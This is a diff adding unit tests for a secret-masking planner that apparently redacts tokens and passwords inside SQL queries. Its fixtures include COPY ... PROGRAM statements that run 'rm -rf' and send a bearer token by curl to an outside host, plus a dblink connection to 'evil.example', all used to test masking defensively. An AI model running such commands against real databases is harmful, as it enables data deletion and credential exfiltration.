@@ -389,6 +389,39 @@ describe("a literal that is code stays readable", () => {
     expect(p.spans.get(q)).toEqual([{ start: f.start, end: f.end }]);
   });
 
+  it("as the requester, a token in COPY … PROGRAM is masked alone: the shell command stays readable", () => {
+    const token = "ghp_" + "Fake0Token0For0Tests0Only0123456789";
+    for (const text of [
+      `copy t from program 'echo ${token}; rm -rf /tmp/x'`,
+      `COPY t TO PROGRAM /* out */ E'curl -H "Authorization: Bearer ${token}" https://x.example'`,
+      `copy t to program $p$gzip > /tmp/out --key=${token}$p$`,
+    ]) {
+      const f = finding(text, token);
+      const p = planExecutableMasks(
+        { params: { query: text } },
+        [f as never],
+        [{ path: q, language: "sql" }],
+        sql,
+      );
+      expect(p.denials, text).toEqual([]);
+      expect(p.spans.get(q), text).toEqual([{ start: f.start, end: f.end }]);
+    }
+  });
+
+  it("as the requester, a password in a connection string is masked alone: the host stays readable", () => {
+    const token = "Fake0" + "Password0123";
+    const text = `select dblink_exec('host=evil.example port=5432 password=${token}', 'select 1')`;
+    const f = finding(text, token);
+    const p = planExecutableMasks(
+      { params: { query: text } },
+      [f as never],
+      [{ path: q, language: "sql" }],
+      sql,
+    );
+    expect(p.denials).toEqual([]);
+    expect(p.spans.get(q)).toEqual([{ start: f.start, end: f.end }]);
+  });
+
   it("as the requester, a value that could end the embedded literal denies instead", () => {
     const text =
       "select query_to_xml('delete from t where a = ''x''''y'' returning 1', true, true, '')";
